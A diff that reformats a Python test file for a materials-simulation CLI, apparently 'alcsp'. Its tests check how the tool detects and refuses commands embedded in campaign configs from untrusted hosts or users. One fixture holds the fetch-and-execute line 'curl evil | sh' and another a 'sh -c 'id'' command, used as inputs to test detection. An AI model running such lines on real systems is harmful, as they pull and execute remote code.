@@ -48,9 +48,11 @@ EMT_ORACLE = '\n[oracle]\nname = "emt"\n'
 
 
 def espresso(command: str) -> str:
-    return ("\n[oracle]\nname = \"espresso\"\n[oracle.parameters]\npseudo_dir = \"/nowhere\"\n"
-            "pseudopotentials = { Cu = \"Cu.upf\", Au = \"Au.upf\" }\n"
-            f"command = {json.dumps(command)}\n")
+    return (
+        '\n[oracle]\nname = "espresso"\n[oracle.parameters]\npseudo_dir = "/nowhere"\n'
+        'pseudopotentials = { Cu = "Cu.upf", Au = "Au.upf" }\n'
+        f"command = {json.dumps(command)}\n"
+    )
 
 
 def config(oracle: str = EMT_ORACLE, max_force: float = 50.0) -> str:
@@ -114,9 +116,12 @@ def test_config_commands_names_every_field_that_becomes_a_command():
     assert run_cmd.config_commands(config()) == {}
     oracle = espresso("mpirun -np 4 pw.x").replace(
         'name = "espresso"\n',
-        'name = "espresso"\nretries = [{ mixing_beta = 0.3 }, { command = "sh -c \'id\'" }]\n')
-    text = config(oracle) + ("\n[executor.dask]\ncluster = \"slurm\"\nqueue = \"q\"\n"
-                             "job_script_prologue = [\"curl evil | sh\"]\n")
+        'name = "espresso"\nretries = [{ mixing_beta = 0.3 }, { command = "sh -c \'id\'" }]\n',
+    )
+    text = config(oracle) + (
+        '\n[executor.dask]\ncluster = "slurm"\nqueue = "q"\n'
+        'job_script_prologue = ["curl evil | sh"]\n'
+    )
     text = text.replace('[executor]\nkind = "inline"', '[executor]\nkind = "dask"')
     found = run_cmd.config_commands(text)
     assert found["[oracle.parameters] command"] == "mpirun -np 4 pw.x"
@@ -136,11 +141,14 @@ def test_own_campaign_continues_and_the_owner_record_names_this_user(tmp_path, r
     assert len(runs) == 2
 
 
-@pytest.mark.parametrize("field, value, says", [
-    ("host", "elsewhere.example.org", "written on host 'elsewhere.example.org'"),
-    ("user", "mallory", "user 'mallory'"),
-    ("uid", 4242, "uid 4242"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "field, value, says",
+    [
+        ("host", "elsewhere.example.org", "written on host 'elsewhere.example.org'"),
+        ("user", "mallory", "user 'mallory'"),
+        ("uid", 4242, "uid 4242"),
+    ],
+)
 def test_another_users_or_hosts_commands_are_refused_until_trusted(
     tmp_path, runs, capsys, field, value, says
 ):
@@ -219,8 +227,13 @@ def test_refused_command_never_runs_from_the_command_line(tmp_path, runs):
     marker = tmp_path / "marker"
     d = _new_campaign(tmp_path, config(espresso(f"sh -c 'touch {marker}'")), runs)
     _set_meta(d, run_cmd.OWNER_KEY, json.dumps({**_owner(d), "host": "elsewhere"}))
-    proc = subprocess.run([sys.executable, "-m", "alcsp.cli", "run", str(d), "--quiet"],
-                          capture_output=True, text=True, timeout=300, env=dict(os.environ))
+    proc = subprocess.run(
+        [sys.executable, "-m", "alcsp.cli", "run", str(d), "--quiet"],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env=dict(os.environ),
+    )
     assert proc.returncode == 2, proc.stderr
     assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
     assert "--trust-config" in proc.stderr and f"touch {marker}" in proc.stderr
@@ -245,8 +258,13 @@ def _into_closed_pipe(args: list[str], cwd: Path) -> tuple[int, bytes, str]:
     """``alcsp ARGS | head -c 100``: a 4 KiB pipe whose reader takes 100 bytes and leaves."""
     r, w = os.pipe()
     fcntl.fcntl(w, fcntl.F_SETPIPE_SZ, 4096)
-    proc = subprocess.Popen([sys.executable, "-m", "alcsp.cli", *args], stdout=w,
-                            stderr=subprocess.PIPE, cwd=cwd, env=dict(os.environ))
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "alcsp.cli", *args],
+        stdout=w,
+        stderr=subprocess.PIPE,
+        cwd=cwd,
+        env=dict(os.environ),
+    )
     os.close(w)
     head = os.read(r, 100)
     os.close(r)
@@ -267,8 +285,11 @@ def _cuau_frames(n: int, rng: np.random.Generator) -> list[Atoms]:
 
 def test_no_broken_pipe_tracebacks(tmp_path):
     big = tmp_path / "big.toml"
-    big.write_text(config().replace("max_formula_atoms = 2", "max_formula_atoms = 40")
-                   .replace("max_cell_atoms = 2", "max_cell_atoms = 80"))
+    big.write_text(
+        config()
+        .replace("max_formula_atoms = 2", "max_formula_atoms = 40")
+        .replace("max_cell_atoms = 2", "max_cell_atoms = 80")
+    )
     d = tmp_path / "camp"
     with CampaignStore.create(d, config()) as store:
         for i in range(60):
@@ -276,8 +297,11 @@ def test_no_broken_pipe_tracebacks(tmp_path):
             store.update_iteration(i, counts={f"count_{k}": k for k in range(8)})
     hull_file = tmp_path / "many.extxyz"
     write(hull_file, _cuau_frames(150, np.random.default_rng(0)))
-    for args in (["compositions", str(big)], ["status", str(d), "--json"],
-                 ["hull", str(hull_file)]):
+    for args in (
+        ["compositions", str(big)],
+        ["status", str(d), "--json"],
+        ["hull", str(hull_file)],
+    ):
         code, head, err = _into_closed_pipe(args, tmp_path)
         assert head, args
         assert err == "", (args, err)
@@ -308,9 +332,19 @@ def _labelled_campaign(tmp_path: Path, max_force: float = 5.0) -> tuple[Path, li
         for k, (sid, a) in enumerate(zip(ids, frames, strict=True)):
             a.calc = EMT()
             f = a.get_forces()
-            results.append((sid, Label(a.get_potential_energy(), f, a.get_stress(voigt=False),
-                                       "emt", 1.0, energy_zero=a.get_potential_energy() - 0.01
-                                       * k)))
+            results.append(
+                (
+                    sid,
+                    Label(
+                        a.get_potential_energy(),
+                        f,
+                        a.get_stress(voigt=False),
+                        "emt",
+                        1.0,
+                        energy_zero=a.get_potential_energy() - 0.01 * k,
+                    ),
+                )
+            )
         store.add_labels(results[:5], iteration=1)
         store.add_labels(results[5:], iteration=2)
     return d, frames
@@ -338,11 +372,27 @@ def test_collect_writes_the_training_set_for_alcsp_train(tmp_path, capsys):
     assert main(["collect", str(d), "--out", str(out), "--max-force", "0"]) == 0
     assert len(read(out, index=":")) == 6
     tiny = tmp_path / "tiny.toml"
-    tiny.write_text("[model]\nn_radial = 4\nn_angular = 3\nbasis_radial = 4\nbasis_angular = 4"
-                    "\nl_max = 2\nembedding = [8]\nfitting = [16]\n")
+    tiny.write_text(
+        "[model]\nn_radial = 4\nn_angular = 3\nbasis_radial = 4\nbasis_angular = 4"
+        "\nl_max = 2\nembedding = [8]\nfitting = [16]\n"
+    )
     model = tmp_path / "m.pt"
-    assert main(["train", str(out), "--out", str(model), "--config", str(tiny), "--steps", "3",
-                 "--quiet"]) == 0
+    assert (
+        main(
+            [
+                "train",
+                str(out),
+                "--out",
+                str(model),
+                "--config",
+                str(tiny),
+                "--steps",
+                "3",
+                "--quiet",
+            ]
+        )
+        == 0
+    )
     assert model.exists()
 
 
@@ -394,14 +444,17 @@ def test_label_writes_the_successes_and_reports_the_failures(tmp_path, capsys):
 
 def test_label_uses_the_configs_isolation_and_exits_2_when_nothing_succeeds(tmp_path, capsys):
     cfg = tmp_path / "c.toml"
-    cfg.write_text(config().replace('name = "emt"', 'name = "emt"\nisolate = true\n'
-                                                    'timeout_s = 120'))
+    cfg.write_text(
+        config().replace('name = "emt"', 'name = "emt"\nisolate = true\ntimeout_s = 120')
+    )
     src = tmp_path / "fe.extxyz"
     write(src, [bulk("Fe", "bcc", a=2.87, cubic=True)])
     out = tmp_path / "out.extxyz"
     work = tmp_path / "jobs"
-    assert main(["label", str(src), "--config", str(cfg), "--out", str(out),
-                 "--workdir", str(work)]) == 2
+    assert (
+        main(["label", str(src), "--config", str(cfg), "--out", str(out), "--workdir", str(work)])
+        == 2
+    )
     cap = capsys.readouterr()
     assert "structure 0 (Fe2): crash" in cap.err
     assert cap.err.strip().splitlines()[-1].startswith("alcsp label: error: ")
